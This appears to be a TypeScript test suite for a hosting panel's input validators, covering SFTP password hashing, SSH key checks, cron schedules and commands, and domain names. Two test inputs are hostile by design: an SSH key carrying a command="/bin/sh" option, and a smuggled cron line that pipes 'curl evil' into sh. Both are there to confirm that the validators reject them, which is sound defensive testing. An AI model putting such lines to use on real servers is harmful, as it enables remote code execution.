import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { sha512Crypt, hashSftpPassword } from '../src/resources/sha512-crypt.ts';
import { normaliseKeys, sshKeyProblem } from '../src/resources/ssh-keys.ts';
import { commandProblem, scheduleProblem } from '../src/resources/cron-job.ts';
import { domainProblem, normaliseDomain } from '../src/resources/domains.ts';
import { WALKED_KEY } from './resource-fixtures.ts';

/** An OpenSSH `ssh-rsa` line for a fresh RSA key of `bits`. */
function rsaLine(bits: number): string {
  const jwk = generateKeyPairSync('rsa', { modulusLength: bits }).publicKey.export({ format: 'jwk' }) as { n: string; e: string };
  const str = (b: Buffer) => { const len = Buffer.alloc(4); len.writeUInt32BE(b.length); return Buffer.concat([len, b]); };
  const mpint = (b64: string) => { const b = Buffer.from(b64, 'base64url'); return str(b[0]! & 0x80 ? Buffer.concat([Buffer.from([0]), b]) : b); };
  return `ssh-rsa ${Buffer.concat([str(Buffer.from('ssh-rsa')), mpint(jwk.e), mpint(jwk.n)]).toString('base64')} me@host`;
}

describe('resource input checks', () => {
  it('SFTP passwords hash as SHA-512-crypt, byte for byte what `openssl passwd -6` gives', () => {
    // Vectors made with openssl passwd -6 -salt <salt> <password> on Debian 12.
    assert.equal(sha512Crypt('password', 'saltsaltsaltsalt'), '$6$saltsaltsaltsalt$bcXJ8qxwY5sQ4v8MTl.0B1jeZ0z0JlA9jjmbUoCJZ.1wYXiLTU.q2ILyrDJLm890lyfuF7sWAeli0yjOyFPkf0');
    assert.equal(sha512Crypt('a-much-longer-password-that-is-more-than-64-bytes-long-for-sure-yes-indeed-xx', 'saltsaltsaltsalt'),
      '$6$saltsaltsaltsalt$HDfiVNWRY/ZIlxv21CAEo66vYitU8uW4LBc1HdoxtY97yR08074ROSiY9152L8reSu1J45afnWLtYeGW5PI.i.');
    assert.equal(sha512Crypt('héllo wörld', 'ab'), '$6$ab$dVzgup9vG/RoLaZ1ottha9149H0BpS84kYjA/dlmefYXbL8t/aDZ3Euoa/9XYnQTIRP357f/ON8IM5.7KP.Ub/');
    const a = hashSftpPassword('correct horse battery');
    assert.match(a, /^\$6\$[./0-9A-Za-z]{16}\$[./0-9A-Za-z]{86}$/);
    assert.notEqual(a, hashSftpPassword('correct horse battery'), 'a fresh salt each time');
    assert.equal(sha512Crypt('correct horse battery', a.split('$')[2]!), a);
  });

  it('SSH keys: real Ed25519 and RSA ≥ 2048 pass; options, extra lines, short RSA, forged blobs fail', () => {
    assert.equal(sshKeyProblem(WALKED_KEY), null);
    assert.equal(sshKeyProblem(rsaLine(2048)), null);
    assert.match(sshKeyProblem(rsaLine(1024))!, /at least 2048/);
    assert.match(sshKeyProblem(`command="/bin/sh" ${WALKED_KEY}`)!, /options are not allowed/);
    assert.match(sshKeyProblem(`${WALKED_KEY}\nssh-ed25519 AAAA x`)!, /one line/);
    const [, blob] = WALKED_KEY.split(' ');
    assert.match(sshKeyProblem(`ssh-rsa ${blob}`)!, /does not match/);
    assert.match(sshKeyProblem(`ssh-ed25519 ${blob!.slice(0, 40)}`)!, /not a valid|truncated/);
    assert.match(sshKeyProblem('ssh-ed25519 not*base64')!, /base64/);
    const { keys, problems } = normaliseKeys([`  ${WALKED_KEY.replace(/ /g, '   ')}  `, WALKED_KEY, 'nonsense']);
    assert.deepEqual(keys.slice(0, 1), [WALKED_KEY]);
    assert.deepEqual(Object.keys(problems), ['authorizedKeys[2]']);
  });

  it('cron schedules and commands: five valid fields or a macro, one line, % escaped', () => {
    for (const ok of ['*/5 * * * *', '0 3 * * 1-5', '15,45 8-18/2 1 jan-mar mon', '@daily', '0 0 31 12 7']) assert.equal(scheduleProblem(ok), null, ok);
    for (const bad of ['* * * *', '60 * * * *', '* 24 * * *', '* * 0 * *', '* * * 13 *', '*/0 * * * *', '@reboot', 'x * * * *', '5-1 * * * *']) assert.notEqual(scheduleProblem(bad), null, bad);
    assert.equal(commandProblem('php artisan schedule:run >/dev/null 2>&1'), null);
    assert.equal(commandProblem('date +\\%F'), null);
    assert.match(commandProblem('date +%F')!, /escape %/);
    assert.match(commandProblem('true\n* * * * * curl evil | sh')!, /one line/);
  });

  it('domains: lowercase hostnames with a real TLD', () => {
    assert.equal(normaliseDomain(' Shop.Example.TEST. '), 'shop.example.test');
    for (const ok of ['shop.test', 'a.b.c.example', 'xn--bcher-kva.example', 'x1.io']) assert.equal(domainProblem(ok), null, ok);
    for (const bad of ['shop', '-shop.test', 'shop-.test', 'sh op.test', 'shop..test', '127.0.0.1', `${'a'.repeat(64)}.test`, 'shop.t']) assert.notEqual(domainProblem(bad), null, bad);
  });
});
